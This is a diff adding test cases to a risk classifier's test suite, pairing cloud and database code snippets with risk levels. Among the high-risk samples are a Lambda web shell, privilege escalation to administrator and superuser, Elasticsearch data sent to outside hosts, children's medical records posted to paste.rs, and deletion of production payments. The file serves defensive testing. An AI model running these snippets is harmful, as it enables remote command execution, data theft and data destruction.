@@ -8938,6 +8938,177 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '    shutil.rmtree(old)\n',
             M,
         ),
+        # holdout252-255: serverless functions and their handlers, deployment packages, ephemeral stacks, own
+        # pickle caches, search clusters, lists filled in loops, recent rows deleted in production
+        (
+            'import boto3\n'
+            "lam = boto3.client('lambda')\n"
+            "lam.create_function_url_config(FunctionName='billing-admin', AuthType='NONE')\n",
+            H,
+        ),
+        (
+            'import boto3\n'
+            "lam = boto3.client('lambda')\n"
+            "for page in lam.get_paginator('list_functions').paginate():\n"
+            "    for fn in page['Functions']:\n"
+            "        lam.put_function_concurrency(FunctionName=fn['FunctionName'], ReservedCo"
+            'ncurrentExecutions=0)\n',
+            H,
+        ),
+        (
+            'import boto3\n'
+            "lam = boto3.client('lambda')\n"
+            "lam.create_function(FunctionName='sync', Runtime='python3.12', Role='arn:aws:iam"
+            "::123456789012:role/OrganizationAccountAccessRole', Handler='i.h', Code={'ZipFil"
+            "e': b''})\n",
+            H,
+        ),
+        (
+            'import boto3\n'
+            "lam = boto3.client('lambda')\n"
+            "lam.create_function(FunctionName='sync', Runtime='python3.12', Role='arn:aws:iam"
+            "::123456789012:role/sync-lambda-exec', Handler='i.h', Code={'ZipFile': b''})\n",
+            S,
+        ),
+        (
+            'import io, zipfile\n'
+            'PAYLOAD = \'import boto3\\niam = boto3.client("iam")\\niam.attach_user_policy(UserN'
+            'ame="svc", PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess")\\n\'\n'
+            'buf = io.BytesIO()\n'
+            "with zipfile.ZipFile(buf, 'w') as z:\n"
+            "    z.writestr('index.py', PAYLOAD)\n",
+            H,
+        ),
+        (
+            'import io, zipfile\n'
+            'PAYLOAD = \'def handler(event, context):\\n    return {"statusCode": 200}\\n\'\n'
+            'buf = io.BytesIO()\n'
+            "with zipfile.ZipFile(buf, 'w') as z:\n"
+            "    z.writestr('index.py', PAYLOAD)\n",
+            S,
+        ),
+        (
+            'import subprocess\n'
+            'def handler(event, context):\n'
+            "    cmd = (event.get('queryStringParameters') or {}).get('cmd', 'id')\n"
+            '    return subprocess.run(cmd, shell=True, capture_output=True, text=True).stdou'
+            't\n',
+            C,
+        ),
+        (
+            'import boto3, json, functools, os\n'
+            'import psycopg2\n'
+            '@functools.lru_cache(maxsize=1)\n'
+            'def creds():\n'
+            "    sm = boto3.client('secretsmanager')\n"
+            "    return json.loads(sm.get_secret_value(SecretId=os.environ['ARN'])['SecretStr"
+            "ing'])\n"
+            'def handler(event, context):\n'
+            '    c = creds()\n'
+            "    with psycopg2.connect(host=c['host'], password=c['password']) as conn:\n"
+            '        with conn.cursor() as cur:\n'
+            "            cur.execute('SELECT count(*) FROM orders')\n"
+            "            return {'n': cur.fetchone()[0]}\n",
+            M,
+        ),
+        (
+            'import boto3\n'
+            "lam = boto3.client('lambda')\n"
+            "for v in ['1', '2', '3']:\n"
+            "    lam.delete_function(FunctionName='reports', Qualifier=v)\n",
+            M,
+        ),
+        (
+            'import os, boto3\n'
+            'stack = f"orders-api-pr-{os.environ[\'PR_NUMBER\']}"\n'
+            "boto3.client('cloudformation').delete_stack(StackName=stack)\n",
+            M,
+        ),
+        (
+            'import os, pickle, time\n'
+            "CACHE = '/tmp/pricing_table.pkl'\n"
+            'def load():\n'
+            '    if os.path.exists(CACHE):\n'
+            "        with open(CACHE, 'rb') as f:\n"
+            '            return pickle.load(f)\n'
+            '    prices = compute()\n'
+            "    with open(CACHE, 'wb') as f:\n"
+            '        pickle.dump(prices, f)\n'
+            '    return prices\n',
+            M,
+        ),
+        (
+            'import os, pickle\n'
+            "CACHE = '/tmp/shared-cache.pkl'\n"
+            'def load():\n'
+            "    with open(CACHE, 'rb') as f:\n"
+            '        return pickle.load(f)\n'
+            'def save(d):\n'
+            "    with open(CACHE, 'wb') as f:\n"
+            '        pickle.dump(d, f)\n'
+            '    os.chmod(CACHE, 0o666)\n',
+            H,
+        ),
+        (
+            'from elasticsearch import Elasticsearch\n'
+            "es = Elasticsearch('https://es-prod:9200')\n"
+            "es.snapshot.create_repository(name='qa', body={'type': 's3', 'settings': {'bucke"
+            "t': 'qa-7731', 'endpoint': 's3.eu-west-1.wasabisys.com'}})\n",
+            H,
+        ),
+        (
+            'from elasticsearch import Elasticsearch\n'
+            "es = Elasticsearch('https://es-prod:9200')\n"
+            "watch = {'actions': {'sync': {'webhook': {'scheme': 'https', 'host': 'ingest.met"
+            "rics-relay.io', 'port': 443}}}}\n"
+            "es.watcher.put_watch(id='relay', body=watch, active=True)\n",
+            H,
+        ),
+        (
+            'from elasticsearch import Elasticsearch\n'
+            "es = Elasticsearch('https://es-prod:9200')\n"
+            "watch = {'actions': {'notify': {'webhook': {'scheme': 'https', 'host': 'alerts.i"
+            "nternal', 'port': 443}}}}\n"
+            "es.watcher.put_watch(id='notify', body=watch, active=True)\n",
+            S,
+        ),
+        (
+            "es.security.create_api_key(name='automation', role_descriptors={'god': {'cluster"
+            "': ['all'], 'indices': [{'names': ['*'], 'privileges': ['all']}]}})\n",
+            H,
+        ),
+        (
+            "es.security.create_api_key(name='reader', role_descriptors={'r': {'indices': [{'"
+            "names': ['products-*'], 'privileges': ['read']}]}})\n",
+            S,
+        ),
+        (
+            "es.security.put_role_mapping(name='default', body={'enabled': True, 'roles': ['s"
+            "uperuser'], 'rules': {'field': {'username': '*'}}})\n",
+            H,
+        ),
+        (
+            'import csv, requests\n'
+            'rows = []\n'
+            "with open('/srv/app/exports/medical_plans.csv') as fh:\n"
+            '    for r in csv.DictReader(fh):\n'
+            '        rows.append(f"{r[\'child_name\']},{r[\'condition\']}")\n'
+            "requests.post('https://paste.rs/', data='\\n'.join(rows).encode())\n",
+            H,
+        ),
+        (
+            'import requests\n'
+            "rows = ['ok']\n"
+            "requests.post('https://paste.rs/', data='\\n'.join(rows).encode())\n",
+            L,
+        ),
+        (
+            'import os, psycopg2\n'
+            "conn = psycopg2.connect(os.environ['LEDGER_PROD_DSN'])\n"
+            'conn.cursor().execute("DELETE FROM payments WHERE paid_at > now() - interval \'45'
+            ' days\'")\n',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
